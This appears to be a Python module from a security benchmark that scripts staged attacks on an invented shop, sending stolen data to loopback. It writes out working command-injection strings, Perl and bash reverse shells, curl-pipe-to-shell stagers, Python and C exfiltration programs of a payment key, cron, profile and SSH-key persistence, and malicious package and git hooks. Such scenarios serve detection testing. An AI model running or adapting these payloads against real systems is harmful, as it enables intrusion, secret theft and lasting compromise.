"""The attacks: for each, what happens in which round of its day, and the tools that it fetches.

Every command is harmless: it reads files of the invented shop and sends them to loopback.
"""

from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

from benchmarks.demo_variants import world
from sample_logs.record import Visit, injection

Prepare = Callable[[], object]


@dataclass(frozen=True)
class Attack:
    """An attack: `visits` and `work` (jobs) by round, `prepare` before the round.

    `work` says which routine jobs the attack waits for; they do not belong to it.
    """

    entry: str
    tool: str
    channel: str
    visits: dict[int, Sequence[Visit]] = field(default_factory=dict)
    prepare: dict[int, Prepare] = field(default_factory=dict)
    work: dict[int, list[str]] = field(default_factory=dict)


def injected(command: str) -> str:
    """Return the request whose text ends the quote of the shop's shell."""
    return injection(f"x' data/orders.csv;{command};echo '")


def intruder(script: str, credential: str = f"password {world.PASSWORD}") -> Visit:
    """Return a login with a stolen password, or a key."""
    return lambda: world.login(script, credential, attacker=True)


def typing(script: str) -> Prepare:
    """Return what makes the next reverse shell hear a script."""
    return lambda: world.typed.append(script.encode())


def uploaded(name: str, content: str) -> Visit:
    """Return the upload of a file of any name."""
    return lambda: world.picture(name, content.encode())


SECRET, C2, DROP = "etc/payment.key", "/dev/tcp/127.0.0.1/4444", "http://127.0.0.1:4445/"
SPY = b"""import glob, urllib.request
text = "".join(open(name).read() for name in ["etc/payment.key", *glob.glob("data/*.csv")])
urllib.request.urlopen("http://127.0.0.1:4445/in", text.encode()).read()
"""
LOOT = b"""mkdir /tmp/.loot
cp etc/payment.key data/orders.csv /tmp/.loot
tar cf /tmp/.loot.tar -C /tmp .loot
openssl enc -aes-128-cbc -pbkdf2 -k x -in /tmp/.loot.tar -out /tmp/.loot.enc
curl -s --data-binary @/tmp/.loot.enc http://127.0.0.1:4445/loot
curl -s --data-binary @etc/payment.key http://127.0.0.1:4445/key
"""
STAGE = b"curl -s -o /tmp/.s2 http://127.0.0.1:9090/second; python3 -IS /tmp/.s2\n"
SECOND = b"""import subprocess
open("/tmp/.s3", "w").write("base64 -w0 etc/payment.key >/tmp/.k; bash /tmp/.s4\\n")
open("/tmp/.s4", "w").write("rev /tmp/.k >/tmp/.r; cat etc/payment.key >/dev/tcp/127.0.0.1/4444\\n")
subprocess.run(["sh", "/tmp/.s3"])
"""
KNOCK = b"""#include <arpa/inet.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    char text[200];
    struct sockaddr_in far = {.sin_family = AF_INET, .sin_port = htons(5353)};
    int key = open("/srv/shop/etc/payment.key", O_RDONLY);
    ssize_t size = read(key, text, sizeof text);
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    inet_pton(AF_INET, "127.0.0.1", &far.sin_addr);
    for (ssize_t at = 0; at < size; at += 32)
        sendto(out, text + at, size - at < 32 ? size - at : 32, 0, (void *)&far, sizeof far);
    return 0;
}
"""
PAGES = {"/spy": SPY, "/loot.sh": LOOT, "/stage": STAGE, "/second": SECOND}
SHELL = "id\nls -l\ncat etc/payment.key\ntail -n 2 log/access.log\nexit\n"
PERL = (
    'perl -MSocket -e \'socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,'
    'inet_aton("127.0.0.1")));open(STDIN,"<&S");open(STDOUT,">&S");exec("/bin/sh")\''
)  # fmt: skip
COUNT = "#!/bin/sh\ncut -d, -f1 data/orders.csv | sort | uniq -c | sort -rn >tmp/ranking\n"


def hooked() -> None:
    """Publish a release whose hook opens a reverse shell."""
    world.typed.append(SHELL.replace("etc/", "../etc/").encode())
    world.publish(f"bash -c 'exec 3<>{C2};bash <&3 >&3'\n")


ATTACKS = {
    "web-python": Attack("web", "python", "HTTP POST", {5: [
        injected("curl -s -o /tmp/.u http://127.0.0.1:9090/spy;python3 -IS /tmp/.u")]}),
    "web-perl": Attack("web", "perl", "reverse shell", {7: [injected(PERL)]}, {7: typing(SHELL)}),
    "web-bash": Attack("web", "bash", "/dev/tcp", {3: [
        injected(f"bash -c 'exec 3<>{C2};cat {SECRET} >&3'")]}),
    "web-curl-sh": Attack("web", "curl | sh", "HTTP POST", {8: [
        injected("curl -s http://127.0.0.1:9090/loot.sh | sh")]}),
    "web-binary": Attack("web", "compiled", "UDP", {9: [
        injected("curl -s -o /tmp/.b http://127.0.0.1:9090/knock;chmod 755 /tmp/.b;/tmp/.b")]}),
    "web-renamed": Attack("web", "renamed perl", "web root", {
        4: [injected("cp /usr/bin/perl /tmp/kworker;/tmp/kworker -pe 1 etc/payment.key"
                     " >data/pictures/map.txt")],
        5: [lambda: world.stolen.append(world.picture("map.txt"))]}),
    "web-longer": Attack("web", "curl | sh, python, bash", "/dev/tcp", {6: [
        injected("curl -s http://127.0.0.1:9090/stage | sh")]}),
    "web-slow": Attack("web", "curl, sh", "HTTP POST", {
        1: [injected("curl -s -o data/.n http://127.0.0.1:9090/loot.sh")],
        4: [injected("sed -i /curl/d data/.n")],
        7: [injected("sh data/.n")],
        9: [injected(f"cat {SECRET} /tmp/.loot.enc >data/.m;curl -s -T data/.m {DROP}")]}),
    "web-living-off-the-land": Attack("web", "what the shop uses", "web root", {
        6: [injected("tar czf data/pictures/sofa.tgz etc;gzip -dc data/pictures/sofa.tgz"
                     " >data/pictures/sofa")],
        9: [lambda: world.stolen.append(world.picture("sofa"))]}),
    "web-cron": Attack("web", "cron job", "HTTP POST", {2: [
        injected("printf \"#!/bin/sh\\ncurl -s --data-binary @etc/payment.key "
                 f"{DROP}\\n\" >cron.hourly/update;chmod 755 cron.hourly/update")]}),
    "login-key": Attack("login", "tar, curl", "HTTP POST", {
        3: [intruder("id\ncat etc/users\necho key-two >>home/admin/.ssh/authorized_keys\n")],
        8: [intruder(f"tar cf tmp/.a etc data\ncurl -s --data-binary @tmp/.a {DROP}\n",
                     "key key-two")]}),
    "login-profile": Attack("login", "shell profile", "/dev/tcp", {
        4: [intruder(f"echo 'cat {SECRET} >{C2}' >home/admin/.cache/u\n"
                     "echo 'bash home/admin/.cache/u' >>home/admin/.profile\n")]}),
    "package": Attack("package", "sh, python", "HTTP POST",
        prepare={6: lambda: world.package(
            "curl -s -o tmp/.p http://127.0.0.1:9090/spy\npython3 -IS tmp/.p\n")},
        work={6: ["install"]}),
    "git-hook": Attack("git", "bash", "reverse shell",
        prepare={5: hooked},
        work={5: ["deploy"]}),
    "cron-overwritten": Attack("upload", "cron job, bash", "UDP", {3: [
        uploaded("logo.txt", f"bash -c 'cat {SECRET} >/dev/udp/127.0.0.1/5353'\n"),
        uploaded("../../cron.hourly/count-orders", COUNT + "sh data/pictures/logo.txt\n")]}),
}  # fmt: skip
